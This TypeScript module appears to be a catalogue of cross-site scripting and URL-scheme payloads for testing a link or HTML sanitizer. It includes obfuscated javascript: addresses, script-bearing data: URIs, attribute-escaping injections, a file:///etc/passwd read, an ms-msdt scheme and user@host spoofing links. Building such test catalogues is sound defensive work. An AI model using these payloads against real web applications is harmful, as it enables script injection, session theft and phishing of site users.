import { inBase64, inLink, inReferences, inText, type PayloadClass } from "../PayloadClass.ts"

const control = (code: number): string => String.fromCharCode(code)

/** Addresses that are scripts, and addresses that only look like addresses. */
export const links: ReadonlyArray<PayloadClass> = [
  {
    name: "script addresses",
    place: inLink,
    effect: "script",
    payloads: [
      call => `javascript:${call}`,
      call => `JaVaScRiPt:${call}`,
      call => `javascript:/*x*/${call}`,
      call => `javascript://example.com/%0A${call}`,
      call => `javascript://https://example.com/%0D%0A${encodeURIComponent(call)}`,
      call => `javascript:'<script>'?${call}:0`
    ]
  },
  {
    name: "script addresses with controls and character references",
    place: inLink,
    effect: "script",
    payloads: [
      call => ` \t\njavascript:${call}`,
      call => `java\tscript:${call}`,
      call => `java\nscript\r:${call}`,
      call => `${control(1)}javascript:${call}`,
      call => `${control(31)}${control(14)}javascript:${call}`,
      call => `javascript&colon;${call}`,
      call => `&#106avascript:${call}`,
      call => `&#x0006Aavascript&#58;${call}`,
      call => inReferences(`javascript:${call}`),
      call => `java&Tab;script&NewLine;:${call}`
    ]
  },
  {
    name: "documents as addresses",
    place: payload => `<iframe src="${payload}"></iframe>`,
    effect: "script",
    payloads: [
      call => `data:text/html,<script>${call}</script>`,
      call => `data:text/html;base64,${inBase64(`<script>${call}</script>`)}`,
      call => `DATA:text/html;charset=utf-8,%3Cscript%3E${encodeURIComponent(call)}%3C/script%3E`,
      call => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
      call =>
        `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${call}</script></x>`
    ]
  },
  {
    name: "addresses that end their attribute",
    place: inLink,
    effect: "script",
    payloads: [
      call => `https://example.com/"onmouseover="${call}`,
      call => `https://example.com/" autofocus onfocus="${call}`,
      call => `https://example.com/"><script>${call}</script>`,
      call => `http://example.com/?a="><svg/onload=${call}>`,
      call => `https://example.com/#"><img src=x: onerror=${call}>`,
      call => `https://www.linkedin.com/in/"/onpointerover="${call}`
    ]
  },
  {
    name: "links that do more than lead",
    place: inText,
    effect: "script",
    payloads: [
      call => `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
      (call, outside) => `<a href="#x" ping="${outside}" target=_top onclick=${call}>x</a>`,
      call => `<area href="javascript:${call}" shape=default>`,
      call => `<a href=javascript:${call} download>x</a>`
    ]
  },
  {
    name: "addresses of no web page",
    place: inLink,
    effect: null,
    payloads: [
      () => "vbscript:msgbox(1)",
      () => "livescript:alert(1)",
      () => "mocha:[code]",
      () => "blob:https://example.com/7d3e1b",
      () => "filesystem:https://example.com/temporary/x.html",
      () => "file:///etc/passwd",
      () => "view-source:https://example.com/",
      () => "intent://example.com#Intent;scheme=http;end",
      () => "ms-msdt:/id PCWDiagnostic",
      () => "mailto:x@example.com?bcc=y@example.com",
      () => "tel:+47000",
      (_, outside) => outside,
      (_, outside) => `/\\${outside.slice(2)}`,
      (_, outside) => `https:${outside.replace("//", "//user:password@")}`,
      (_, outside) => `https:${outside.replace("//", "//www.linkedin.com@")}`,
      call => `feed:javascript:${call}`,
      call => `jar:javascript:${call}!/`,
      call => `https://example.com\u0000javascript:${call}`
    ]
  }
]
